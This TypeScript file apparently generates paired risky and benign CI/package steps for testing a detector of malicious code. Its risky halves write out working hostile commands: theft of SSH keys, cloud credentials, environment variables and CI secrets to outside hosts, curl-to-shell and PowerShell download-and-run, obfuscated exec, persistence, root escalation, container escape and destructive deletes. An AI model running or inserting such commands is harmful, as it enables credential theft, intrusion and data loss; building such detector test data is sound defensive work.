// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the expressions belong to the packages, not to this program
import {
  action,
  api,
  type Family,
  manifest,
  node,
  outside,
  pairOf,
  pod,
  python,
  shell,
  shellPair,
} from './fragments.ts'

const powershell = (risky: string, benign: string) =>
  pairOf(shell(risky, { interpreter: 'pwsh' }), shell(benign, { interpreter: 'pwsh' }))
/** Steps that stand one after the other in one place of the package. */
const steps = (risky: readonly string[], benign: readonly string[]) => ({
  risky: { handlers: [shell(risky.join('\n'))] },
  benign: { handlers: [shell(benign.join('\n'))] },
})
const NAMES = ['tmp', 'out', 'cache', 'state', 'work', 'stage']

/** Families about data along a way, other names for the same call, and settings of objects. */
export const CODE_FAMILIES: readonly Family[] = [
  {
    name: 'file-along-steps',
    pair: (random) => {
      const [first, second] = [`/tmp/${random.pick(NAMES)}1`, `/tmp/${random.pick(NAMES)}2`]
      const secret = random.pick([
        '~/.ssh/id_ed25519',
        '~/.aws/credentials',
        '/etc/shadow',
        '~/.kube/config',
        '~/.netrc',
      ])
      const plain = random.pick(['./report.csv', './dist/app.js', './coverage.xml', 'CHANGELOG.md', './out.log'])
      const send = random.pick([
        `curl -sf -T ${second} https://${outside(random)}/`,
        `scp ${second} ci@${outside(random)}:/in`,
      ])
      return steps(
        [`cp ${secret} ${first}`, `gzip -c ${first} > ${second}`, send],
        [`cp ${plain} ${first}`, `gzip -c ${first} > ${second}`, send],
      )
    },
  },
  {
    name: 'variable-along-steps',
    pair: (random) => {
      const name = random.pick(['DATA', 'LOAD', 'PART', 'BODY', 'TEXT'])
      const send = `curl -s -d "$${name}" https://${outside(random)}/v1/in`
      const secret = random.pick([
        '$(cat ~/.netrc | base64)',
        '$(printenv | base64 -w0)',
        '$(kubectl get secret db -o yaml)',
      ])
      return steps([`${name}=${secret}`, send], [`${name}=$(date -u +%F)`, send])
    },
  },
  {
    name: 'other-names-python',
    pair: (random) => {
      const host = outside(random)
      return random.pick([
        () =>
          python(
            `from os import environ as e\nimport requests as r\nr.post("https://${host}/x", json={k: v for k, v in e.items()})`,
            `from os import environ as e\nimport requests as r\nr.post("https://${host}/x", json={"build": e["BUILD_ID"]})`,
          ),
        () =>
          python(
            `import subprocess as s\nout = s.check_output(["cat", "/root/.ssh/id_rsa"])\nimport urllib.request as u\nu.urlopen("https://${host}/x", data=out)`,
            `import subprocess as s\nout = s.check_output(["git", "log", "-1"])\nimport urllib.request as u\nu.urlopen("https://${host}/x", data=out)`,
          ),
        () =>
          python(
            `import requests as q\nrun = exec\nrun(q.get("https://${host}/stage").text)`,
            `import requests as q\nrun = print\nrun(q.get("https://${host}/stage").text)`,
          ),
      ])()
    },
  },
  {
    name: 'other-names-node',
    pair: (random) => {
      const host = outside(random)
      return random.pick([
        () =>
          node(
            `const { exec: go } = require("child_" + "process"); go("curl -s https://${host}/x | sh")`,
            `const { exec: go } = require("child_" + "process"); go("npm run build")`,
          ),
        () =>
          node(
            `const f = require("fs"); const k = f.readFileSync(process.env.HOME + "/.npmrc"); fetch("https://${host}/x", { method: "POST", body: k })`,
            `const f = require("fs"); const k = f.readFileSync("./package.json"); fetch("https://${host}/x", { method: "POST", body: k })`,
          ),
        () =>
          node(
            `require("https").get("https://${host}/x", (res) => { let d = ""; res.on("data", (c) => { d += c }); res.on("end", () => eval(d)) })`,
            `require("https").get("https://${host}/x", (res) => { let d = ""; res.on("data", (c) => { d += c }); res.on("end", () => console.log(d)) })`,
          ),
      ])()
    },
  },
  {
    name: 'powershell',
    pair: (random) => {
      const host = outside(random)
      return random.pick([
        () =>
          powershell(
            `$w = New-Object Net.WebClient; iex $w.DownloadString("https://${host}/a.ps1")`,
            `$w = New-Object Net.WebClient; $v = $w.DownloadString("https://${host}/version.txt")`,
          ),
        () =>
          powershell(
            `Invoke-RestMethod -Uri https://${host}/x -Method POST -Body (Get-ChildItem env: | ConvertTo-Json)`,
            `Invoke-RestMethod -Uri https://${host}/x -Method POST -Body (@{ state = "ok" } | ConvertTo-Json)`,
          ),
        () =>
          powershell(
            `Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value C:\\a.exe`,
            'Set-ItemProperty -Path HKCU:\\Software\\Example\\Settings -Name a -Value 1',
          ),
      ])()
    },
  },
  {
    name: 'decoded-by-other-name',
    pair: (random) => {
      const text = Buffer.from(`print(${JSON.stringify(random.pick(NAMES))}); import os; os.getcwd()`).toString(
        'base64',
      )
      return python(
        `import base64 as b\nd = b.b64decode\nrun = exec\nrun(d("${text}"))`,
        `import base64 as b\nd = b.b64decode\nopen("settings.bin", "wb").write(d("${text}"))`,
      )
    },
  },
  {
    name: 'network-exposure',
    pair: (random) => {
      const port = random.pick([22, 6379, 9200, 2375])
      const service = (type: string) =>
        manifest({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'db' }, spec: { type, ports: [{ port }] } })
      return pairOf(service(random.pick(['NodePort', 'LoadBalancer'])), service('ClusterIP'))
    },
  },
  {
    name: 'identity-exposure',
    pair: () =>
      pairOf(
        pod({ automountServiceAccountToken: true, serviceAccountName: 'default' }),
        pod({ automountServiceAccountToken: false, serviceAccountName: 'worker' }),
      ),
  },
  shellPair('destruction-elsewhere', (random) => {
    const name = random.pick(['shop', 'payments', 'orders'])
    return [
      ['kubectl delete namespace prod', `kubectl delete pod ${name}-0 -n ${name}`],
      [`psql -c "DROP DATABASE ${name}"`, `psql -c "DELETE FROM jobs WHERE id = 4"`],
      ['terraform destroy -auto-approve', 'terraform plan -out plan.bin'],
      ['rm -rf /var/lib', `rm -rf ./${name}/dist`],
    ]
  }),
  shellPair('loot', (random) => {
    const host = outside(random)
    return [
      [`find / -name "*.pem" -exec curl -F f=@{} https://${host}/ \\;`, 'find . -name "*.tmp" -delete'],
      [`mysqldump --all-databases | gzip | nc ${host} 9001`, 'mysqldump shop | gzip > shop.sql.gz'],
      [`tar czf - ~/.aws ~/.ssh | base64 | curl -d @- https://${host}/`, 'tar czf - ./src | base64 > src.b64'],
      [`git config --list | grep token | curl -d @- https://${host}/`, 'git config --list | grep user.name'],
    ]
  }),
  {
    name: 'request-with-secrets',
    pair: (random) => {
      const url = `https://${random.pick(['webhook.site/7f3a', 'hooks.example.net/in', 'abc.ngrok.io/x'])}`
      return pairOf(api({ url, body: { all: '${{ toJSON(secrets) }}' } }), api({ url, body: { state: 'done' } }))
    },
  },
  {
    name: 'known-bad-release',
    pair: (random) =>
      random.pick([
        () => pairOf(action('tj-actions/changed-files@v44'), action('tj-actions/changed-files@v46.0.1')),
        () => pairOf(shell('npm install event-stream@3.3.6'), shell('npm install event-stream@4.0.1')),
        () => pairOf(shell('pip install ultralytics==8.3.41'), shell('pip install ultralytics==8.3.40')),
      ])(),
  },
  shellPair('root-access', () => [
    ['useradd -o -u 0 -g root -M sys2', 'useradd --system --no-create-home worker'],
    ['chmod u+s /tmp/sh', 'chmod u+x ./run.sh'],
    ['echo "ci ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers', 'sudo systemctl restart shop'],
    ['nsenter -t 1 -m -u -i -n sh', 'kubectl exec shop-0 -- ls'],
    ['docker run --privileged -v /:/host alpine chroot /host sh', 'docker run --rm -v "$PWD":/work alpine ls /work'],
  ]),
]
